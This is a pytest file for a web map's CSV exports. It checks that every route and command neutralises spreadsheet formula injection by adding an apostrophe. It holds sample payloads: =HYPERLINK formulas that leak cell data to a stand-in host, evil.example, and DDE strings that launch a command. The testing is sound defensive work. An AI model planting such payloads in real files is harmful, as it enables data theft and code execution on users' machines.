"""Exports are safe to open in a spreadsheet: formula-like text cells start with an apostrophe.

Before the fix, a resident's place named =HYPERLINK(...) reached /export/assets.csv unchanged, and the
CSV's Content-Type said charset twice.
"""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from webmap.core.csvsafe import neutralise_cell
from webmap.core.db import db
from webmap.core.models import Asset

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_get_an_apostrophe(payload):
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Riverside Lunch Club", "", "a=b", "Tea + cake", None, 3.5, -2.1, 7])
def test_other_values_are_left_alone(value):
    assert neutralise_cell(value) == value


def _plant(app, **fields) -> int:
    with app.app_context():
        asset = db.session.scalar(select(Asset).where(Asset.status == "approved").order_by(Asset.id).limit(1))
        for key, value in fields.items():
            setattr(asset, key, value)
        db.session.commit()
        return asset.id


@pytest.mark.parametrize("bom", ["", "?bom=1"])
def test_asset_csv_neutralises_resident_text(sample_app, bom):
    asset_id = _plant(
        sample_app, name=PAYLOADS[0], description="+44 is our code", address="-1 floor", opening_times="@noon"
    )
    response = sample_app.test_client().get(f"/export/assets.csv{bom}")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig")))}
    row = rows[str(asset_id)]
    assert row["name"] == "'" + PAYLOADS[0]
    assert (row["description"], row["address"], row["opening_times"]) == ("'+44 is our code", "'-1 floor", "'@noon")
    # Numbers stay numbers, even negative longitudes.
    assert float(row["lon"]) < 0 and not row["lon"].startswith("'")


def test_geojson_keeps_the_exact_text_for_gis(sample_app):
    asset_id = _plant(sample_app, name=PAYLOADS[0])
    features = sample_app.test_client().get("/export/assets.geojson").get_json()["features"]
    assert any(f["properties"]["id"] == asset_id and f["properties"]["name"] == PAYLOADS[0] for f in features)


def test_cli_csv_export_is_neutralised_too(sample_app, tmp_path):
    _plant(sample_app, name="=1+1")
    out = tmp_path / "assets.csv"
    with sample_app.app_context():
        result = sample_app.test_cli_runner().invoke(args=["export", "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "'=1+1" in out.read_text(encoding="utf-8-sig")


# --- Every CSV the site and its commands write goes through the one writer ----------------------------------
#
# Before the fix, the subject-access download and the rejects CSV (command line and browser import) wrote
# =HYPERLINK(...) and @SUM(1) unchanged, and /needs/export.csv and the "You said, we did" CSVs did too.

import inspect  # noqa: E402
import re  # noqa: E402
from pathlib import Path  # noqa: E402

from tests.conftest import REPO, csrf_token, login, make_staff  # noqa: E402
from webmap.core.csvsafe import FORMULA_STARTS, csv_text  # noqa: E402
from webmap.core.models import ImportJob, Need, Ward  # noqa: E402

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
AT_FORMULA = "@SUM(1)"
# Every route that answers with CSV, and how the test reaches it once the records are planted.
CSV_ROUTES = {
    "exports.assets_csv": "/export/assets.csv",
    "gaps.export": "/gaps/export?format=csv",
    "feedback.needs_export": "/needs/export.csv",
    "feedback.area_export": "/you-said-we-did.csv",
    "feedback.ward_export": "/wards/{ward}/you-said-we-did.csv",
    "imports.problems": "/imports/{job}/problems.csv",
    "privacy.download": "POST /privacy/requests/download",
}
# Every command that writes a file, and the CSV it writes (backup writes a SQLite database, never CSV).
CSV_COMMANDS = {
    "export": "--out x.csv",
    "gaps": "--out x.csv",
    "import-assets": "--rejects",
    "import-wards": "--rejects",
    "import-postcodes": "--rejects",
    "import-needs": "--rejects",
}
NOT_CSV = {"backup"}


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _formula_cells(text: str) -> list[str]:
    """Return the cells a spreadsheet would run as formulas."""
    return [
        c for c in _cells(text) if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?[\d.]+([eE][+-]?\d+)?", c)
    ]


def test_no_code_but_csvsafe_writes_csv():
    writers = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
    found = [
        str(p.relative_to(REPO))
        for p in (REPO / "webmap").rglob("*.py")
        if p.name != "csvsafe.py" and writers.search(p.read_text(encoding="utf-8"))
    ]
    assert found == []


def test_every_csv_route_is_in_the_list(sample_app):
    answering_csv = set()
    for rule in sample_app.url_map.iter_rules():
        view = sample_app.view_functions[rule.endpoint]
        source = inspect.getsource(inspect.unwrap(view))
        if rule.rule.endswith(".csv") or ".<fmt>" in rule.rule or re.search(r"\bcsv\b", source):
            answering_csv.add(rule.endpoint)
    assert answering_csv == set(CSV_ROUTES)


def test_every_file_writing_command_is_in_the_list(sample_app):
    commands = sample_app.cli.list_commands(None)
    writing = set()
    for name in commands:
        command = sample_app.cli.get_command(None, name)
        subcommands = [command, *getattr(command, "commands", {}).values()]
        if any(o in (p.opts or []) for c in subcommands for p in c.params for o in ("--out", "--rejects")):
            writing.add(name)
    assert writing == set(CSV_COMMANDS) | NOT_CSV


def _plant_everywhere(app) -> dict:
    """Put formula-bearing text where every CSV picks it up: a ward's and a place's name, a need's source, a job."""
    with app.app_context():
        ward = db.session.scalar(select(Ward).order_by(Ward.code).limit(1))
        ward.name = FORMULA
        asset = db.session.scalar(select(Asset).where(Asset.status == "approved").order_by(Asset.id).limit(1))
        asset.name, asset.description = FORMULA, AT_FORMULA
        asset.submitter_email, asset.submitter_name = "resident@example.org", AT_FORMULA
        for need in db.session.scalars(select(Need)):
            need.source = AT_FORMULA
        job = ImportJob(
            kind="places",
            filename="places.csv",
            sha256="0" * 64,
            size_bytes=1,
            actor="test",
            state="checked",
            preview={"problems": [["places.csv", 2, "name", FORMULA], ["places.csv", 3, "phone", AT_FORMULA]]},
        )
        db.session.add(job)
        db.session.commit()
        return {"ward": ward.code, "job": job.id, "lon": asset.lon, "lat": asset.lat}


def _admin(app):
    make_staff(app, "admin@example.gov.uk", role="admin")
    client = app.test_client()
    assert login(client, "admin@example.gov.uk").status_code == 302
    return client


@pytest.mark.parametrize("endpoint", sorted(CSV_ROUTES))
def test_every_csv_route_neutralises_formulas(sample_app, endpoint):
    planted = _plant_everywhere(sample_app)
    client = _admin(sample_app)
    target = CSV_ROUTES[endpoint].format(**planted)
    if target.startswith("POST "):
        path = target.split()[1]
        response = client.post(
            path,
            data={"csrf_token": csrf_token(client, "/privacy/requests"), "q": "resident@example.org", "format": "csv"},
        )
    else:
        response = client.get(target)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    text = response.get_data(as_text=True)
    assert {"'" + FORMULA, "'" + AT_FORMULA} & set(_cells(text)), text[:500]
    assert _formula_cells(text) == []


def _run(app, *args):
    with app.app_context():
        return app.test_cli_runner().invoke(args=[str(a) for a in args])


def test_cli_csv_commands_neutralise_formulas(sample_app, tmp_path):
    _plant_everywhere(sample_app)
    for command in ("export", "gaps"):
        out = tmp_path / f"{command}.csv"
        result = _run(sample_app, command, "--out", out)
        assert result.exit_code == 0, result.output
        text = out.read_text(encoding="utf-8-sig")
        assert "'" + FORMULA in _cells(text) and _formula_cells(text) == [], command


def _mixed_places(tmp_path: Path, planted: dict) -> Path:
    path = tmp_path / "mixed.csv"
    path.write_text(
        csv_text(
            [
                ["Good hall", "community_space", planted["lon"], planted["lat"], "01632 960001"],
                [FORMULA, "community_space", "abc", planted["lat"], AT_FORMULA],
            ],
            header=["name", "category", "longitude", "latitude", "phone"],
        )
        .replace("\"'", '"')
        .replace(",'", ",")
    )
    return path


def test_rejects_csv_of_the_command_line_neutralises_formulas(sample_app, tmp_path):
    path = _mixed_places(tmp_path, _plant_everywhere(sample_app))
    assert FORMULA in _cells(path.read_text())  # the file itself carries the raw formula
    rejects = tmp_path / "rejects.csv"
    result = _run(sample_app, "import-assets", path, "--skip-bad-rows", "--rejects", rejects)
    assert result.exit_code == 0, result.output
    text = rejects.read_text(encoding="utf-8")
    assert {"'" + FORMULA, "'" + AT_FORMULA} <= set(_cells(text)) and _formula_cells(text) == []


def test_rejects_csv_of_the_browser_import_neutralises_formulas(sample_app, tmp_path):
    from webmap.imports.kinds import KINDS

    path = _mixed_places(tmp_path, _plant_everywhere(sample_app))
    with sample_app.app_context():
        KINDS["places"].run(path, {"skip_bad_rows": True})  # what the browser import's job process runs
        db.session.rollback()
    text = (tmp_path / "rejects.csv").read_text(encoding="utf-8")
    assert "'" + FORMULA in _cells(text) and _formula_cells(text) == []


def test_writer_quotes_and_keeps_numbers():
    text = csv_text(
        [[1, -2.5, "-2.5", "a,b", None, float("nan"), "+44 1632"]], header=["id", "lon", "raw", "t", "n", "f", "p"]
    )
    assert text.splitlines()[1] == '1,-2.5,-2.5,"a,b",,,\'+44 1632'
    assert text.endswith("\r\n")
